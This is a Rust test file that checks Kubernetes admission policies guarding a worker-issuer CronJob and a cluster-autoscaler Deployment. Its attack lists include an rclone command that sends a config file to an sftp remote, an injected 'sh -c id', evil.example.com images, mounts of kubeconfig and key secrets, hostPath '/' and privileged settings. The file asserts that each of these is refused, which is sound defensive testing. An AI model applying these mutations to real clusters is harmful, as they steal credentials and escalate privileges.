//! What the account that applies workers may make Pods of, where keys of issuers are published: admission policies that hold
//! each CronJob and Deployment to the form that is rendered. Their expressions are evaluated here (the server of the tests is
//! older than such policies), on objects with what a server adds by itself.

use carp::model::Fleet;
use carp::model::api::{Autoscale, NodePool};
use kube_cel::cel::{Context, ExecutionError, Program, Value as Cel};
use serde_json::{Value, json};

use crate::federation::federated;
use crate::support::{documents, fleet};

const APPLIER: &str = "system:serviceaccount:flux-system:carp-workers";

/// A worker with a pool that grows, whose keys are published.
fn publishing() -> Fleet {
    let mut fleet = fleet::of("capz");
    federated(&mut fleet);
    for worker in fleet.workers.values_mut() {
        let autoscale = Some(Autoscale { min: 1, max: 3 });
        worker.spec.node_pools =
            vec![NodePool { name: "np0".into(), autoscale, ..NodePool::default() }].into();
    }
    fleet
}

fn all(fleet: &Fleet) -> Vec<Value> {
    documents(&fleet::tree(fleet, ""))
        .into_iter()
        .filter(is_hub)
        .map(|(_, object)| object)
        .collect()
}

fn is_hub((path, _): &(String, Value)) -> bool {
    path.starts_with("control-plane/")
}

fn find(objects: &[Value], kind: &str, name: &str) -> Value {
    let is_it = |o: &&Value| o["kind"] == kind && o["metadata"]["name"] == name;
    objects.iter().find(is_it).unwrap_or_else(|| panic!("{kind} {name}")).clone()
}

/// Whether an expression holds. What cannot be told is refused, as `failurePolicy: Fail` has it.
fn holds(expression: &Value, context: &Context<'_>) -> bool {
    let text = expression.as_str().unwrap();
    let program = Program::compile(text).unwrap_or_else(|e| panic!("{text}: {e}"));
    program.execute(context).is_ok_and(|value| value == Cel::Bool(true))
}

/// What a policy says of a request; `None` where it does not look at it, and else what it refuses.
fn refused(policy: &Value, user: &str, object: &Value, old: &Value) -> Option<Vec<String>> {
    let mut context = Context::default();
    context.add_function("dyn", |value: Cel| Ok::<_, ExecutionError>(value));
    let namespace = &object["metadata"]["namespace"];
    let request = json!({"userInfo": {"username": user}, "namespace": namespace});
    for (name, value) in [("request", &request), ("object", object), ("oldObject", old)] {
        context.add_variable(name, value.clone()).unwrap();
    }
    let list = |field: &str| policy["spec"][field].as_array().unwrap().clone();
    if !list("matchConditions").iter().all(|one| holds(&one["expression"], &context)) {
        return None;
    }
    let broken = list("validations").into_iter();
    let broken = broken.filter(|one| !holds(&one["expression"], &context));
    Some(broken.map(|one| one["message"].as_str().unwrap().to_owned()).collect())
}

/// What a server adds to a Pod's template.
fn defaulted(template: &mut Value) {
    let pod = &mut template["spec"];
    pod["dnsPolicy"] = "ClusterFirst".into();
    pod["schedulerName"] = "default-scheduler".into();
    pod["terminationGracePeriodSeconds"] = 30.into();
    if pod["restartPolicy"].is_null() {
        pod["restartPolicy"] = "Always".into();
    }
    if pod["serviceAccountName"].is_string() {
        pod["serviceAccount"] = pod["serviceAccountName"].clone();
    }
    for container in pod["containers"].as_array_mut().unwrap() {
        container["imagePullPolicy"] = "IfNotPresent".into();
        container["terminationMessagePath"] = "/dev/termination-log".into();
        container["terminationMessagePolicy"] = "File".into();
    }
    template["metadata"]["creationTimestamp"] = Value::Null;
}

/// Holds a policy against what is rendered and, one after the other, what a thief would make of it.
fn hold(policy: &Value, object: &Value, template: &str, attacks: &[(&str, Value)]) {
    let none = Value::Null;
    assert_eq!(refused(policy, APPLIER, object, &none), Some(Vec::new()), "what is rendered");
    for (at, value) in attacks {
        let mut bad = object.clone();
        set(bad.pointer_mut(template).unwrap(), at, value);
        assert_ne!(&bad, object, "{at}");
        let found = refused(policy, APPLIER, &bad, &none).unwrap();
        assert!(!found.is_empty(), "{at}: {value}");
        let found = refused(policy, APPLIER, &bad, object).unwrap();
        assert!(!found.is_empty(), "as a change, {at}: {value}");
        // What stood before stays, and nobody else is asked.
        assert_eq!(refused(policy, APPLIER, &bad, &bad), None);
        assert_eq!(refused(policy, "admin", &bad, &none), None);
    }
}

/// Sets what lies at a pointer; `-` adds to a list.
fn set(object: &mut Value, at: &str, value: &Value) {
    let (above, last) = at.rsplit_once('/').unwrap();
    let above = object.pointer_mut(above).unwrap_or_else(|| panic!("{at}"));
    match above {
        Value::Array(items) if last == "-" => items.push(value.clone()),
        Value::Array(items) => items[last.parse::<usize>().unwrap()] = value.clone(),
        other => other[last] = value.clone(),
    }
}

/// What a thief would make of a CronJob, in its Pod's template.
fn of_cron_jobs() -> Vec<(String, Value)> {
    let c = "/spec/containers/0";
    let of = |at: &str| format!("{c}/{at}");
    let (image, args, env) = (of("image"), of("args/0"), of("env/0/value"));
    vec![
        (image, json!("evil.example.com/rclone:1")),
        (args, json!("cat /config/rclone.conf | rclone rcat :sftp:")),
        (of("args/-"), json!("x")),
        (of("command"), json!(["/bin/bash", "-c"])),
        (env, json!(":sftp,ssh=\"sh -c id\":/x/wk-weu-1")),
        (of("env/0/value"), json!("oidc:$web/workers/wk-weu-2")),
        (of("env/1/value"), json!("{}")),
        (of("env/-"), json!({"name": "LD_PRELOAD", "value": "/config/rclone.conf"})),
        (
            of("env/0"),
            json!({"name": "TO", "valueFrom": {"secretKeyRef": {"name": "a", "key": "b"}}}),
        ),
        (of("envFrom"), json!([{"secretRef": {"name": "wk-weu-1-kubeconfig"}}])),
        (of("lifecycle"), json!({"postStart": {"exec": {"command": ["id"]}}})),
        (of("livenessProbe"), json!({"exec": {"command": ["id"]}})),
        (of("securityContext/privileged"), json!(true)),
        (of("securityContext/allowPrivilegeEscalation"), json!(true)),
        (of("securityContext/capabilities/add"), json!(["NET_ADMIN"])),
        (of("securityContext/capabilities/drop"), json!([])),
        (of("securityContext/readOnlyRootFilesystem"), json!(false)),
        (of("securityContext"), Value::Null),
        (of("volumeMounts/0/mountPath"), json!("/etc")),
        (of("volumeMounts/1/subPath"), json!("x")),
        ("/spec/containers/-".into(), json!({"name": "b", "image": "evil.example.com/a:1"})),
        ("/spec/initContainers".into(), json!([{"name": "b", "image": "evil.example.com/a:1"}])),
        ("/spec/ephemeralContainers".into(), json!([{"name": "b"}])),
        ("/spec/hostNetwork".into(), json!(true)),
        ("/spec/hostPID".into(), json!(true)),
        ("/spec/nodeName".into(), json!("node-1")),
        ("/spec/serviceAccountName".into(), json!("cluster-autoscaler")),
        ("/spec/automountServiceAccountToken".into(), json!(true)),
        ("/spec/securityContext/runAsNonRoot".into(), json!(false)),
        ("/spec/securityContext/seccompProfile/type".into(), json!("Unconfined")),
        ("/spec/securityContext/sysctls".into(), json!([])),
        ("/spec/securityContext".into(), json!({})),
        (
            "/spec/volumes/-".into(),
            json!({"name": "x", "secret": {"secretName": "wk-weu-1-kubeconfig"}}),
        ),
        ("/spec/volumes/-".into(), json!({"name": "x", "hostPath": {"path": "/"}})),
        ("/spec/volumes/0".into(), json!({"name": "tmp", "hostPath": {"path": "/"}})),
        ("/spec/volumes/1/secret/secretName".into(), json!("wk-weu-1-kubeconfig")),
        ("/spec/volumes/1/secret/items/0/key".into(), json!("tls.key")),
        ("/spec/volumes/1/secret/items/-".into(), json!({"key": "tls.key", "path": "tls.key"})),
        ("/spec/volumes/1".into(), json!({"name": "key", "secret": {"secretName": "wk-weu-1-sa"}})),
        ("/spec/volumes/2/secret/secretName".into(), json!("wk-weu-1-ca")),
        ("/spec/volumes/2".into(), json!({"name": "config", "projected": {"sources": []}})),
        ("/metadata/annotations".into(), json!({"inject.example.com": "yes"})),
        ("/metadata/labels/sidecar.istio.io~1inject".into(), json!("true")),
    ]
}

#[test]
fn a_cron_job_is_the_one_that_publishes() {
    let objects = all(&publishing());
    let policy = find(&objects, "ValidatingAdmissionPolicy", "carp-workers-issuer");
    let binding = find(&objects, "ValidatingAdmissionPolicyBinding", "carp-workers-issuer");
    assert_eq!(
        binding["spec"],
        json!({"policyName": "carp-workers-issuer", "validationActions": ["Deny"]})
    );
    let mut job = find(&objects, "CronJob", "issuer");
    let template = "/spec/jobTemplate/spec/template";
    defaulted(job.pointer_mut(template).unwrap());
    let attacks = of_cron_jobs();
    let attacks: Vec<_> = attacks.iter().map(|(at, value)| (at.as_str(), value.clone())).collect();
    hold(&policy, &job, template, &attacks);
    // Of another worker it is not the same.
    job["metadata"]["namespace"] = "wk-weu-2".into();
    assert_eq!(refused(&policy, APPLIER, &job, &Value::Null).unwrap().len(), 1);
}

#[test]
fn a_remote_that_says_what_it_is_has_no_secret() {
    let mut fleet = publishing();
    let azure = fleet.spec.credentials[0].azure.as_mut().unwrap();
    azure.oidc_issuer_storage.as_mut().unwrap().secret_ref = None;
    let objects = all(&fleet);
    let policy = find(&objects, "ValidatingAdmissionPolicy", "carp-workers-issuer");
    let job = find(&objects, "CronJob", "issuer");
    let volumes = "/spec/jobTemplate/spec/template/spec/volumes";
    let config = json!({"name": "config", "secret": {"secretName": "oidc"}});
    hold(&policy, &job, volumes, &[("/-", config)]);
}

#[test]
fn a_deployment_is_an_autoscaler() {
    let objects = all(&publishing());
    let policy = find(&objects, "ValidatingAdmissionPolicy", "carp-workers-autoscaler");
    let mut autoscaler = find(&objects, "Deployment", "cluster-autoscaler");
    let template = "/spec/template";
    defaulted(autoscaler.pointer_mut(template).unwrap());
    let c = "/spec/containers/0";
    let of = |at: &str| format!("{c}/{at}");
    let attacks: Vec<(String, Value)> = vec![
        (of("image"), json!("evil.example.com/cluster-autoscaler:v1.34.0")),
        (of("command"), json!(["/bin/sh"])),
        (
            of("env"),
            json!([{"name": "A", "valueFrom": {"secretKeyRef": {"name": "a", "key": "b"}}}]),
        ),
        (of("envFrom"), json!([])),
        (of("lifecycle"), json!({})),
        (of("livenessProbe"), json!({"exec": {"command": ["id"]}})),
        (of("securityContext/privileged"), json!(true)),
        (of("securityContext/capabilities/add"), json!(["SYS_ADMIN"])),
        ("/spec/containers/-".into(), json!({"name": "b", "image": "evil.example.com/a:1"})),
        ("/spec/initContainers".into(), json!([])),
        ("/spec/hostNetwork".into(), json!(true)),
        ("/spec/serviceAccountName".into(), json!("default")),
        ("/spec/securityContext/runAsNonRoot".into(), json!(false)),
        ("/spec/volumes/0/secret/secretName".into(), json!("wk-weu-1-ca")),
        ("/spec/volumes/-".into(), json!({"name": "x", "hostPath": {"path": "/"}})),
    ];
    let attacks: Vec<_> = attacks.iter().map(|(at, value)| (at.as_str(), value.clone())).collect();
    hold(&policy, &autoscaler, template, &attacks);
    // How it runs may be overridden.
    for (at, value) in [
        ("/spec/tolerations", json!([{"operator": "Exists"}])),
        ("/spec/priorityClassName", json!("system-cluster-critical")),
        ("/spec/containers/0/args/-", json!("--v=4")),
        ("/spec/containers/0/resources/limits/memory", json!("1Gi")),
        (
            "/spec/containers/0/livenessProbe",
            json!({"httpGet": {"path": "/health-check", "port": 8085}}),
        ),
        ("/metadata/annotations", json!({"prometheus.io/scrape": "true"})),
    ] {
        let mut other = autoscaler.clone();
        set(other.pointer_mut(template).unwrap(), at, &value);
        assert_eq!(refused(&policy, APPLIER, &other, &autoscaler), Some(Vec::new()), "{at}");
    }
}

#[test]
fn nobody_is_held_where_nothing_is_published() {
    let objects = all(&fleet::of("capz"));
    let policies = objects.iter().filter(|o| o["kind"] == "ValidatingAdmissionPolicy");
    let names: Vec<_> = policies.map(|policy| &policy["metadata"]["name"]).collect();
    assert_eq!(names, ["carp-workers"]);
}
